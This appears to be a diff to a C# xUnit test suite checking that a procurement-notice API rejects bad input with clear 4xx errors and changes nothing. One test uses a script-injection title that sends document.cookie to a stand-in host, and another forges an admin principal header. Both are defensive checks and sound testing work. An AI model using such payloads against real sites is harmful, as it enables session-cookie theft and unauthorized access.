@@ -1,19 +1,21 @@
 using System.Net;
 using System.Text.Json;
 using NoticeFunctions.Tests.Support;
+using Notices.Domain.Notices;
+using Notices.Testing;
 using Xunit;
 
 namespace NoticeFunctions.Tests;
 
 /// <summary>Each way a request can be wrong gets a clear 4xx naming what to fix, and changes nothing.</summary>
-public sealed class ApiBadInputTests : IAsyncLifetime
+public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<AzuriteFixture>, IAsyncLifetime
 {
     private TestApp _app = null!;
     private Support.WebClient _commissioner = null!;
 
     public async Task InitializeAsync()
     {
-        _app = await TestApp.StartAsync();
+        _app = await TestApp.StartAsync(azurite: azurite.Process);
         _commissioner = await _app.SignInAsync("ada.lovelace");
     }
 
@@ -103,8 +105,156 @@ public sealed class ApiBadInputTests : IAsyncLifetime
         Assert.DoesNotContain("<script", raw, StringComparison.OrdinalIgnoreCase);
         Assert.DoesNotContain("'x'", raw, StringComparison.Ordinal);
         using var document = JsonDocument.Parse(raw);
-        Assert.Equal(title, document.RootElement.GetProperty("state").GetProperty("details").GetProperty("title").GetString());
+        Assert.Equal(title, document.RootElement.GetProperty("details").GetProperty("title").GetString());
     }
+
+    [Fact]
+    public async Task Register_UnknownField_Is400NamingThatField()
+    {
+        using var response = await _commissioner.PostJsonAsync("/api/procurements", ApiJourney.RegisterBody().Replace("\"title\"", "\"titel\"", StringComparison.Ordinal));
+
+        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
+        Assert.Contains("titel", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
+        await AssertNothingRegisteredAsync();
+    }
+
+    [Fact]
+    public async Task Draft_MalformedJson_Is400AndTheProcurementIsUnchanged()
+    {
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var before = await TimelineAsync(id);
+
+        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", """{"type":"UK4","content":{"title": }""");
+
+        await AssertProblemAsync(response, HttpStatusCode.BadRequest);
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Draft_PlainTextBody_Is415AndTheProcurementIsUnchanged()
+    {
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var before = await TimelineAsync(id);
+
+        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", ApiJourney.DraftBody(NoticeType.UK4), "text/plain");
+
+        var problem = await AssertProblemAsync(response, HttpStatusCode.UnsupportedMediaType);
+        Assert.Contains("application/json", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Draft_OversizedBody_Is413AndTheProcurementIsUnchanged()
+    {
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var before = await TimelineAsync(id);
+        var huge = "{\"type\":\"UK4\",\"content\":{\"title\":\"" + new string('x', 400 * 1024) + "\"}}";
+
+        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", huge);
+
+        await AssertProblemAsync(response, HttpStatusCode.RequestEntityTooLarge);
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Draft_UnknownNoticeType_Is400NamingTheType()
+    {
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var before = await TimelineAsync(id);
+
+        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", """{"type":"UK99","content":{}}""");
+
+        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
+        Assert.True(problem.GetProperty("errors").TryGetProperty("type", out _), problem.ToString());
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Submit_NoticeMissingItsTitle_Is422NamingTheFieldAndStaysADraft()
+    {
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var content = NoticeJson.Serialize(Notices.Testing.Notices.SampleNotices.All.Single(n => n.Type == NoticeType.UK4) with { Title = null });
+        var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", $$"""{"type":"UK4","content":{{content}}}""");
+        var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
+        var before = await TimelineAsync(id);
+
+        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices/{key}/submission", "{}");
+
+        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity);
+        Assert.True(problem.GetProperty("errors").TryGetProperty("title", out _), problem.ToString());
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Award_MissingAndImpossibleValues_Is400NamingEachField()
+    {
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var before = await TimelineAsync(id);
+
+        using var missing = await _commissioner.PostJsonAsync($"/api/procurements/{id}/award", """{"suppliers":[{"name":"Green Bins Limited"}]}""");
+        using var impossible = await _commissioner.PostJsonAsync($"/api/procurements/{id}/award", """{"suppliers":[],"value":1,"decidedOn":"2025-13-45"}""");
+
+        var errors = (await AssertProblemAsync(missing, HttpStatusCode.BadRequest)).GetProperty("errors");
+        foreach (var field in new[] { "suppliers[0].identifier", "value", "decidedOn" })
+        {
+            Assert.True(errors.TryGetProperty(field, out _), $"no error for {field}: {errors}");
+        }
+
+        var date = await AssertProblemAsync(impossible, HttpStatusCode.BadRequest);
+        Assert.True(date.GetProperty("errors").TryGetProperty("decidedOn", out _), date.ToString());
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Approval_UnknownNotice_IsRefusedNamingTheNoticeAndChangesNothing()
+    {
+        using var approver = await _app.SignInAsync("grace.hopper");
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var before = await TimelineAsync(id);
+
+        using var response = await ApiJourney.ApproveAsync(approver, id, "uk4-9");
+
+        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity);
+        Assert.Contains("uk4-9", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
+        Assert.Equal(before, await TimelineAsync(id));
+    }
+
+    [Fact]
+    public async Task Draft_ScriptInANoticeTitle_IsKeptAsTextAndServedEscaped()
+    {
+        const string title = "Bins <script>document.location='https://example.org/'+document.cookie</script>";
+        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var content = NoticeJson.Serialize(Notices.Testing.Notices.SampleNotices.All.Single(n => n.Type == NoticeType.UK4) with { Title = title });
+        var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", $$"""{"type":"UK4","content":{{content}}}""");
+        var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
+
+        using var response = await _commissioner.GetAsync($"/api/procurements/{id}/notices/{key}");
+        var raw = await response.Content.ReadAsStringAsync();
+
+        Assert.Equal("application/json", response.Content.Headers.ContentType!.MediaType);
+        Assert.DoesNotContain("<script", raw, StringComparison.OrdinalIgnoreCase);
+        using var notice = JsonDocument.Parse(raw);
+        Assert.Equal(title, notice.RootElement.GetProperty("content").GetProperty("title").GetString());
+    }
+
+    [Fact]
+    public async Task Register_ForgedPrincipalHeaderNotBehindAppServiceAuthentication_Is401AndRegistersNothing()
+    {
+        using var anonymous = _app.Client();
+        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/procurements")
+        {
+            Content = new StringContent(ApiJourney.RegisterBody(), System.Text.Encoding.UTF8, "application/json"),
+        };
+        request.Headers.Add("X-MS-CLIENT-PRINCIPAL", SignInTests.Principal("Mallory", "Commissioner", "Administrator"));
+        request.Headers.Add("X-MS-CLIENT-PRINCIPAL-ID", "mallory");
+
+        using var response = await anonymous.Http.SendAsync(request);
+
+        await AssertProblemAsync(response, HttpStatusCode.Unauthorized);
+        await AssertNothingRegisteredAsync();
+    }
+
+    private Task<string> TimelineAsync(string id) => _commissioner.GetPageAsync($"/api/procurements/{id}/timeline");
 
     private async Task AssertNothingRegisteredAsync()
     {
